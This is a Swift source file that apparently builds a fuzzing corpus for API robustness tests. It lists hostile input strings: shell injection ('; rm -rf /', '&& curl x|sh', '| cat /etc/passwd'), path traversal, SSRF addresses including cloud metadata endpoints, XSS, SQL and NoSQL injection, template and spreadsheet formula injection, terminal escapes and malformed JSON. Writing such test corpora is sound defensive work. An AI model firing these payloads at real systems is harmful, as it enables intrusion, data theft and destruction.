import Foundation

/// Texts that have broken other systems, by what they try.
enum HostileText {
    static let classes: [(name: String, texts: [String])] = [
        ("shell", shell), ("path", paths), ("address", addresses), ("configuration", configurations),
        ("markup", markup), ("terminal", terminals), ("unicode", unicode), ("query", queries), ("number", numbers),
        ("length", lengths),
    ]

    private static let shell = [
        "$(reboot)", "`id`", "; rm -rf /", "| cat /etc/passwd", "&& curl x|sh", "a\nid", "$IFS$9id", "${HOME}",
        "--help",
        "-oProxyCommand=id", "--upload-pack=touch /tmp/x", "ext::sh -c id", "'; id; '", "\"; id; \"", "a\\", "*",
        "~root",
        "!!", "<(id)", "> /dev/sda", "%0aid", "$((1/0))", "() { :;}; id", "a\tb", "'", "\"",
    ]

    private static let paths = [
        "../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "....//....//etc", "%2e%2e%2f", "..%2f..%2f",
        "..%c0%af",
        ".", "..", "./", "/", "//evil.example.org/x", "\\\\host\\share", "file:///etc/passwd", "a/../../b",
        "/proc/self/environ",
        "C:\\", "con", ".git/config", "a/.lock", "refs/heads/../x", "a//b", "a..b", "/./", "/dev/stdin", "%00.png",
    ]

    private static let addresses = [
        "http://127.0.0.1/", "https://127.1/x", "https://2130706433/x", "https://0x7f000001/x", "https://0177.0.0.1/x",
        "https://[::1]/x", "https://[::ffff:127.0.0.1]/x", "https://[::ffff:7f00:1]/x", "https://[fe80::1%25eth0]/x",
        "https://169.254.169.254/latest/meta-data", "https://metadata.google.internal/x", "https://10.0.0.1/x",
        "https://192.168.1.1/x", "https://172.16.0.1/x", "https://100.64.0.1/x", "https://0.0.0.0/x", "https://0/x",
        "https://localhost/x", "https://localhost./x", "https://127.0.0.1.nip.io@10.0.0.1/x", "https://a@127.0.0.1/x",
        "https://github.com:80@127.0.0.1/x", "https://127.0.0.1#@github.com/x", "https://①②⑦.0.0.1/x",
        "https://[64:ff9b::7f00:1]/x", "https://[fd00::1]/x", "git@127.0.0.1:x", "ssh://127.0.0.1/x",
        "gopher://127.0.0.1:25/_x", "git://127.0.0.1/x", "https://github.com:0/x", "https://github.com:99999/x",
        "https://github.com\t/x", "https://github.com\r\nX: y/x", "https:///x", "https://", "http:example.org",
        "https://255.255.255.255/x", "https://[::]/x", "https://127.0.0.1\\@github.com/x", "https://GITHUB.com./x/..",
    ]

    private static let configurations = [
        "a; } server { listen 81; ", "a{b", "a}b", "$host", "a\r\nSet-Cookie: x=y", "a\r\n\r\nHTTP/1.1 200 OK",
        "FROM scratch", "x\nRUN id", "x\\\nRUN id", "# syntax=evil/image", "ARG A=b", "A=B\nC=D", "A=\"B", "A='B",
        "export A=B", "[section]", "key: value", "- item", "!!python/object", "{{7*7}}", "{{{raw}}}", "<%= 7 %>",
        "${{7*7}}",
        "#{7*7}", "@import", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", ",", ";", "a,b", "lua_code {}",
        "proxy_pass http://evil", "a b\" 200", "%{x}", "%n%n%n%s", "%s%s%s", "\\x00", "\\u0000", "Host: a",
    ]

    private static let markup = [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "</title><script>",
        "javascript:alert(1)", "&lt;script&gt;", "&#60;script&#62;", "<!--", "]]>", "<![CDATA[x]]>",
        "<a href=\"javascript:1\">x</a>", "</textarea><b>", "<iframe src=//x>", "<style>*{display:none}</style>",
        "onmouseover=alert(1) x=", "<base href=//evil>", "\u{201C}><b>", "<ſcript>", "＜script＞", "&quot;&gt;&lt;",
        "<meta http-equiv=refresh content=0>", "</script><script>alert(1)</script>", "<\u{0}script>",
    ]

    private static let terminals = [
        "\u{1B}[2J\u{1B}[1;1H", "\u{1B}]0;owned\u{7}", "\u{1B}]8;;http://evil\u{1B}\\x\u{1B}]8;;\u{1B}\\",
        "a\u{8}\u{8}b",
        "a\rb", "\u{9B}31m", "\u{90}x\u{9C}", "\u{7F}", "\u{0}", "a\u{0}b", "\u{1}\u{2}\u{3}", "\u{C}", "\u{B}",
        "a\u{85}b",
        "\u{1B}[31mred", "\u{1B}c", "\r\n", "\n", "a\r\nb", "\u{7}\u{7}", "\u{E}\u{F}",
    ]

    private static let unicode = [
        "e\u{301}", "\u{E9}", "\u{212B}", "\u{FB01}", "\u{1E9E}", "\u{130}", "\u{131}", "ﬀ", "Ａ", "\u{202E}gpj.exe",
        "\u{2066}x\u{2069}", "a\u{200B}b", "a\u{200D}b", "\u{FEFF}a", "\u{2028}", "\u{2029}", "\u{AD}", "\u{34F}",
        "a" + String(repeating: "\u{301}", count: 200), "👩‍👩‍👧‍👦", "🏴\u{E0067}\u{E0062}\u{E007F}", "\u{10FFFF}", "\u{FFFE}",
        "\u{FFFD}", "\u{E000}", "аdmin", "ѕhор", "\u{3000}x\u{3000}", "\u{A0}x", "x ", " x", "ß", "İ@example.org", "K",
        "\u{1F1E9}", "\u{0300}", "a\u{F0000}", "٣٤", "Ⅷ", "㎏", "\u{2060}", "\u{180E}", "\u{61C}", "",
    ]

    private static let queries = [
        "' OR '1'='1", "'; DROP TABLE users; --", "1 UNION SELECT 1", "$1", "$99", "?1", ":name", "@p1", "\\'", "%",
        "_",
        "a%' --", "/* */", "x'||'y", "\\", "E'\\x'", "$$", "!", "!%", "NULL", "true", "{\"$gt\":\"\"}",
        "*)(uid=*))(|(uid=*",
        "0; SELECT pg_sleep(9)", "a' AND randomblob(1000000000)",
    ]

    private static let numbers = [
        "0", "-1", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e308", "1e309", "NaN",
        "Infinity",
        "0x10", "1_000", "1,5", "00", "-0", "+1", "1.0", "99999999999999999999999999", "0.0000001", ".5", "5.",
        "1e-400",
        "٣", " 1", "1 ",
    ]

    private static let lengths = [
        String(repeating: "a", count: 64), String(repeating: "a", count: 256), String(repeating: "a", count: 5000),
        String(repeating: "é", count: 300), tooLong, String(repeating: "a.", count: 2000),
        String(repeating: "(", count: 3000), String(repeating: "a ", count: 3000), String(repeating: "/", count: 300),
    ]

    /// No field of the API may take this.
    static let tooLong = String(repeating: "a", count: 300_000)
}

/// What is sent in the place of a value.
struct HostileValue: Sendable {
    /// For the report of a failure.
    let name: String
    /// As it stands in the JSON.
    let json: [UInt8]
    /// What must be read back when it was taken as text; nil when it is no text at all.
    let text: String?

    private init(_ name: String, _ json: [UInt8], text: String? = nil) {
        self.name = name
        self.json = json
        self.text = text
    }

    static let texts: [HostileValue] = HostileText.classes.flatMap { group in
        group.texts.enumerated().map { number, text in
            HostileValue("\(group.name) \(number)", quoted(text), text: text)
        }
    }

    /// What is no text: other types, numbers beyond all bounds, deep nesting, and bytes that are no UTF-8.
    static let others: [HostileValue] =
        [
            "null", "true", "false", "0", "-1", "1", "1.5", "1e3", "1E400", "-1E400", "9223372036854775807",
            "9223372036854775808", "-9223372036854775808", "-9223372036854775809", "1e19", "2147483648", "4294967296",
            "-0", "0.1e1", "18446744073709551616", "123456789012345678901234567890", "[]", "{}", "[null]", "[[]]",
            "{\"a\":1}", "[1,\"a\"]", "NaN", "Infinity", "undefined", "'a'", "01", "+1", ".5", "1.", "\"", "\"a", "\\",
            "\"\\x41\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"\\u12\"", "{\"a\":1,\"a\":2}", "[1,]",
            "{,}", "/**/1", "\"a\" \"b\"", "tru", "nul",
        ].map { HostileValue("value \($0)", Array($0.utf8)) } + [
            HostileValue("bytes ff", [0x22, 0xFF, 0x22]), HostileValue("bytes overlong", [0x22, 0xC0, 0xAF, 0x22]),
            HostileValue("bytes surrogate", [0x22, 0xED, 0xA0, 0x80, 0x22]),
            HostileValue("bytes cut", [0x22, 0xE2, 0x82, 0x22]), HostileValue("byte nul", [0x22, 0x00, 0x22]),
            HostileValue("byte newline", [0x22, 0x0A, 0x22]), HostileValue("nothing", []),
            nested("lists", "[", "]", 500), nested("lists", "[", "]", 100_000),
            nested("objects", "{\"a\":", "}", 50_000),
            HostileValue("open lists", Array(repeating: 0x5B, count: 100_000)),
            HostileValue("many items", Array(("[" + String(repeating: "1,", count: 100_000) + "1]").utf8)),
            HostileValue("long number", Array(repeating: 0x39, count: 50_000)),
            HostileValue("large exponent", Array("1e999999999".utf8)),
        ]

    private static func nested(_ name: String, _ open: String, _ close: String, _ depth: Int) -> HostileValue {
        let text = String(repeating: open, count: depth) + "1" + String(repeating: close, count: depth)
        return HostileValue("\(depth) \(name)", Array(text.utf8))
    }

    /// A JSON string: what must be escaped is, the rest stands as it is.
    static func quoted(_ text: String) -> [UInt8] {
        var bytes: [UInt8] = [0x22]
        for byte in text.utf8 {
            switch byte {
            case 0x22, 0x5C: bytes += [0x5C, byte]
            case 0..<0x20: bytes += Array("\\u00\(byte < 16 ? "0" : "")\(String(byte, radix: 16))".utf8)
            default: bytes.append(byte)
            }
        }
        return bytes + [0x22]
    }
}
